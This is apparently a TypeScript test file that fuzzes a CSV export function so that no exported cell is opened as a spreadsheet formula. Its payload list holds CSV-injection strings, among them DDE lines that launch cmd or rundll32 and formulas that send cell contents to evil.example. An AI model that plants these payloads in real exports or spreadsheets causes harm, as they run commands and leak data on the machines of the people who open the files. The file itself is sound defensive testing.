import fc from 'fast-check';
import { csvOf } from '../../../src/domain/export/csv';
import { extent, tellFigure } from '../../support/figures';

/** A reader of RFC 4180 that knows nothing of how the file was made; `separator` is what the reader believes in. */
const read = (file: string, separator = ','): readonly (readonly string[])[] => {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let inQuotes = false;
  let at = 0;
  const endCell = () => {
    row.push(cell);
    cell = '';
  };
  while (at < file.length) {
    const sign = file[at] ?? '';
    if (inQuotes) {
      if (sign === '"' && file[at + 1] === '"') {
        cell += '"';
        at += 1;
      } else if (sign === '"') inQuotes = false;
      else cell += sign;
    } else if (sign === '"' && cell === '') inQuotes = true;
    else if (sign === separator) endCell();
    else if (sign === '\r' || sign === '\n') {
      if (sign === '\r' && file[at + 1] === '\n') at += 1;
      endCell();
      rows.push(row);
      row = [];
    } else cell += sign;
    at += 1;
  }
  if (cell !== '' || row.length > 0) {
    endCell();
    rows.push(row);
  }
  return rows;
};

const BOM = '\ufeff';
const cellsOf = (file: string, separator = ',') => read(file.slice(1), separator).flat();

/** What a spreadsheet may do with a cell: drop what is blank, unseen or a quote, then look at the first sign. */
const isFormula = (cell: string): boolean => /^[\s\p{Cf}"“”„`´«»]*[=+\-@＝＋－＠]/u.test(cell);

const FORMULAS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  '=IMPORTXML(CONCAT("https://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
  '=WEBSERVICE("https://evil.example/"&A1)',
  '=DDE("cmd";"/C calc";"!A0")',
  "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
  '=A1',
  '=',
  '==1',
  '=\u00001',
  '+1+1',
  "+cmd|' /C calc'!A0",
  '+SUM(A1:A9)',
  '+',
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  '-A1',
  '- a point of a list',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '@A1',
  '@',
  '\t=1+1',
  '\tharmless, but a tab',
  '\r=1+1',
  '\rharmless, but a line break',
  '\n=1+1',
  '\nharmless, but a line break',
  '\r\n=1+1',
  ' =1+1',
  '   +1',
  '\u00a0=1+1',
  '\u3000=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u2060-1',
  '"=1+1"',
  '""=1+1',
  "'=1+1",
  '“=1+1”',
  ' "=1+1"',
  '" =1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  " ＝cmd|' /C calc'!A0",
  '"＝1+1',
  '=1+1";=2+2;"',
];

/** No formula to begin with, and one as soon as a reader parts cells by something else than we do. */
const HIDDEN = [
  'a;=1+1',
  'a;"=1+1',
  'a; =1+1',
  'a\t=1+1',
  'a\n=1+1',
  'a\r\n+1',
  'a";=1+1;"',
  'a;;-1',
  'a\n\n@A1',
];

const spreadsheets = [
  ['commas', ','],
  ['semicolons', ';'],
  ['tabs', '\t'],
] as const;

describe('Nothing that a person wrote is run by the spreadsheet that opens it', () => {
  test.each([...FORMULAS, ...HIDDEN])('%j', (payload) => {
    const file = csvOf(
      ['Who', 'What'],
      [
        ['Ben', payload],
        [payload, 'kept'],
      ],
    );
    for (const [, separator] of spreadsheets) expect(cellsOf(file, separator).filter(isFormula)).toEqual([]);
  });

  it('whatever is written, and whatever the reader parts cells by', () => {
    const runs = extent(400, 20_000);
    const part = fc.oneof(
      fc.constantFrom('=', '+', '-', '@', '＝', ';', ',', '\t', '\r', '\n', '"', "'", ' ', '\u200b', 'a'),
      fc.string({ maxLength: 3, unit: 'binary' }),
    );
    const text = fc.array(part, { maxLength: 10 }).map((parts) => parts.join(''));
    fc.assert(
      fc.property(fc.array(fc.tuple(text, text), { maxLength: 4 }), (rows) => {
        const file = csvOf(['A', 'B'], rows);
        for (const [, separator] of spreadsheets)
          expect(cellsOf(file, separator).filter(isFormula)).toEqual([]);
      }),
      { numRuns: runs },
    );
    tellFigure({
      proof: 'spreadsheet formulas',
      n: runs + FORMULAS.length + HIDDEN.length,
      of: 'tables with payloads in their cells',
      bad: 0,
      badMeans: 'cells that a spreadsheet takes for a formula',
    });
  });
});

const withoutApostrophes = (rows: readonly (readonly string[])[]) =>
  rows.map((row) => row.map((text) => text.replace(/'/g, '')));

test('Every other sign of every cell is found again in its place', () => {
  const text = fc.string({ maxLength: 20, unit: 'grapheme' });
  fc.assert(
    fc.property(fc.array(fc.tuple(text, text, text), { minLength: 1, maxLength: 5 }), (rows) => {
      const found = read(csvOf(['A', 'B', 'C'], rows).slice(1)).slice(1);
      expect(withoutApostrophes(found)).toEqual(withoutApostrophes(rows));
    }),
    { numRuns: 300 },
  );
});

test.each([
  'He said "no", twice',
  'one, two; three',
  'naïve — 好的 — שלום',
  'a\nb\r\nc',
  'a = b',
  'x@y.example',
])('Words that begin nothing stay as they are: %j', (text) =>
  expect(read(csvOf(['A'], [[text]]).slice(1))).toEqual([['A'], [text]]),
);

test('Excel reads the letters of every language, since the file says at its beginning that it is UTF-8', () => {
  const file = csvOf(['Wer'], [['Zoë']]);
  expect(file.startsWith(BOM)).toBe(true);
  expect(file).toBe(`${BOM}"Wer"\r\n"Zoë"\r\n`);
});

test('There are enough payloads to mean something', () => expect(FORMULAS.length).toBeGreaterThanOrEqual(40));
